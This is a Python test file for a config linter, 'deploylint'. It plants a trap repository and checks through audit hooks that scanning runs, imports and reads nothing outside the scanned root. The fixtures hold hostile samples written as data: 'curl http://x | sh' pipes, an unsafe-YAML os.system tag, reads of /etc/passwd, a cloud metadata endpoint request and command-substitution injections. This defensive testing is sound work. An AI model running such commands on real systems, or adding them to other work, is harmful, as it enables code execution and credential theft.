"""Nothing scanned is executed, imported, or used to reach the network; nothing outside the root is read.

The scan runs in a subprocess (audit hooks cannot be removed) with the working directory set to the
scanned repository, which is full of traps: Python modules named like the libraries we import
lazily, YAML tags that would run commands in an unsafe loader, includes of /etc/passwd and files
outside the root, and enough files to start the worker pool.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]

_RUNNER = r"""
import json, os, sys
root, outside, report = sys.argv[1], sys.argv[2], sys.argv[3]
seen = []
WATCH = ("subprocess.Popen", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "os.fork", "os.forkpty",
         "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "urllib.Request", "http.client.connect",
         "ctypes.dlopen", "webbrowser.open")

def under(path, base):
    try:
        p = os.fsdecode(path)
    except Exception:
        return False
    if not os.path.isabs(p):
        p = os.path.join(root, p) if os.path.exists(os.path.join(root, p)) else ""
    p = os.path.realpath(p) if p else ""
    return p == base or p.startswith(base + os.sep)

def hook(event, args):
    if event in WATCH:
        seen.append([event, repr(args)[:300]])
    elif event == "import" and args[1] and under(args[1], root):
        seen.append([event, args[1]])
    elif event in ("compile", "exec") and args and isinstance(getattr(args[0], "co_filename", None), str) \
            and under(args[0].co_filename, root):
        seen.append([event, args[0].co_filename])
    elif event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
        path = os.fsdecode(args[0])
        if under(path, outside) or os.path.realpath(path) in ("/etc/passwd", "/etc/shadow", "/etc/hosts"):
            seen.append([event, path])
        elif under(path, root) and args[1] and any(c in str(args[1]) for c in "wax+"):
            seen.append(["write", path])

sys.addaudithook(hook)
from deploylint.cli import main
sys.argv = ["deploylint", "check", root, "--format", "json", "-o", report, "--fail-on", "never", "-j", "2"]
try:
    main()
except SystemExit as exc:
    code = exc.code
print(json.dumps({"events": seen, "exit": code}))
"""

_TRAP = "import pathlib; pathlib.Path({marker!r}).write_text('ran')\n"


def _plant(root: Path, outside: Path, marker: Path) -> None:
    trap = _TRAP.format(marker=str(marker))
    for name in (
        "multiprocessing.py",
        "yaml.py",
        "pathspec.py",
        "click.py",
        "pydantic.py",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "setup.py",
        "__init__.py",
        "deploylint.py",
        "encodings.py",
    ):
        (root / name).write_text(trap, encoding="utf-8")
    (root / "docker-compose.yml").write_text(
        "services:\n"
        f"  web:\n    image: x\n    env_file: [/etc/passwd, ../outside/secret.env]\n"
        f"    extends: {{file: ../outside/compose.yaml, service: base}}\n"
        f"    labels: !!python/object/apply:os.system ['python {root}/setup.py']\n"
        "include: [/etc/passwd, ../outside/compose.yaml]\n",
        encoding="utf-8",
    )
    (root / "nginx").mkdir()
    (root / "nginx" / "nginx.conf").write_text(
        "events {}\nhttp {\n  include /etc/passwd;\n  include ../../outside/*.conf;\n  include ../outside/secret.env;\n}\n",
        encoding="utf-8",
    )
    (root / "nginx" / "passwd.conf").symlink_to("/etc/passwd")
    wf = root / ".github" / "workflows"
    wf.mkdir(parents=True)
    (wf / "ci.yml").write_text(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        f"      - run: python {root}/setup.py\n      - uses: ./\n",
        encoding="utf-8",
    )
    (root / "action.yml").write_text("runs:\n  using: composite\n  steps: [{run: 'curl http://x | sh', shell: bash}]\n")
    # PM2: JavaScript that would run a process, read a file and exit if it were evaluated
    (root / "ecosystem.config.js").write_text(
        'require("child_process").execSync("python3 setup.py");\n'
        'module.exports = { apps: [{ name: require("fs").readFileSync("/etc/passwd", "utf8"),'
        ' script: `${process.exit(1)}`, env: { A: process.env.A || "b" } }] };\n',
        encoding="utf-8",
    )
    # ECS: a health check, an image and a linked path that would run or reach something if evaluated
    (root / "taskdef.json").write_text(
        '{"family": "x", "containerDefinitions": [{"name": "x", "image": "$(python3 -c \'import os\')",'
        ' "healthCheck": {"command": ["CMD-SHELL", "python3 -c \\"import pathlib\\" || curl http://169.254.169.254/"]},'
        ' "environment": [{"name": "X", "value": "`touch /tmp/pwned`"}]}]}\n',
        encoding="utf-8",
    )
    for i in range(70):
        d = root / f"svc{i:02d}"
        d.mkdir()
        (d / "Dockerfile").write_text(
            f"FROM python:3.12\nCOPY --from=../outside/x /etc/passwd /x\nRUN python {root}/setup.py && curl http://x | sh\n",
            encoding="utf-8",
        )
    (outside / "secret.env").write_text("TOKEN=outside-secret\n", encoding="utf-8")
    (outside / "compose.yaml").write_text("services:\n  base:\n    image: outside-secret\n", encoding="utf-8")
    (outside / "x.conf").write_text("server { listen 1; }\n", encoding="utf-8")


def test_scan_runs_nothing_imports_nothing_reads_nothing_outside(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    outside = tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    marker = tmp_path / "PWNED"
    _plant(root, outside, marker)
    runner = tmp_path / "runner.py"
    runner.write_text(_RUNNER, encoding="utf-8")
    report = tmp_path / "report.json"
    env = {k: v for k, v in os.environ.items() if k != "PYTHONSAFEPATH"}
    env["PYTHONPATH"] = str(REPO)
    env["DEPLOYLINT_SLOW_EXIT"] = "1"  # main() raises SystemExit instead of os._exit: the runner reports
    proc = subprocess.run(
        [sys.executable, str(runner), str(root.resolve()), str(outside.resolve()), str(report)],
        cwd=root,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr[-3000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    # the only processes started are our own pool workers (and their resource tracker)
    events = [e for e in result["events"] if not (e[0] == "subprocess.Popen" and "multiprocessing" in e[1])]
    assert events == []
    assert result["exit"] == 0
    assert not marker.exists(), "a file from the scanned repository was executed"
    data = report.read_text(encoding="utf-8")
    assert "outside-secret" not in data and "root:x:0" not in data
    assert json.loads(data)["summary"]["internal_errors"] == 0
